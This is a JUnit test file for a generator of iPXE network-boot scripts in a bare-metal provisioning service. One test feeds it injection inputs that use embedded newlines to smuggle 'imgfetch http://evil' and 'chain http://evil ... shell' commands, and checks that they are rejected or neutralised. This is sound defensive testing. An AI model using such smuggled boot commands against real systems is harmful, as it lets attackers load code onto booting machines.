package metalplant.boot.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import metalplant.boot.plant.Plant;
import metalplant.model.Problem;
import org.junit.jupiter.api.Test;

class BootScriptTest {
    private final BootScript scripts = new BootScript("http://10.7.0.1:4280");

    @Test
    void aMachineLoadsKernelAndInitrdsInTheirOrder() {
        var script = scripts.boot(new Plant.Boot("http://x/k", List.of("http://x/1", "http://x/2"), "quiet ip=dhcp"));
        assertThat(script)
                .startsWith("#!ipxe\n")
                .contains(
                        "kernel --name kernel http://10.7.0.1:4280/_/file?type=kernel || goto failed\n",
                        "initrd --name initrd0 http://10.7.0.1:4280/_/file?type=initrd&index=0 || goto failed\n"
                                + "initrd --name initrd1 http://10.7.0.1:4280/_/file?type=initrd&index=1 || goto failed\n"
                                + "boot kernel initrd=initrd0 initrd=initrd1 console=${console},115200n8 quiet ip=dhcp"
                                + " PIXIE_API_URL=http://10.7.0.1:4280/certs || goto failed\n");
    }

    @Test
    void nothingThatOthersSayIsCarriedOut() {
        var bad = new Plant.Boot("k", List.of(), "quiet\nimgfetch http://evil");
        assertThatThrownBy(() -> scripts.boot(bad)).isInstanceOf(Problem.class);
        assertThat(scripts.refused("no\nchain http://evil || ${boot} && shell ; #x"))
                .isEqualTo(
                        "#!ipxe\necho metal-plant: no: no chain http://evil      boot     shell    x\nsleep 5\nexit 1\n");
    }

    @Test
    void whoIsToldNotNowComesAgainAndInTheEndTriesItsDisk() {
        assertThat(scripts.notNow("busy", "a1", 3)).contains("try=4\n").doesNotContain("exit");
        assertThat(scripts.notNow("busy", "a1", 24)).contains("exit 1").doesNotContain("chain");
    }
}
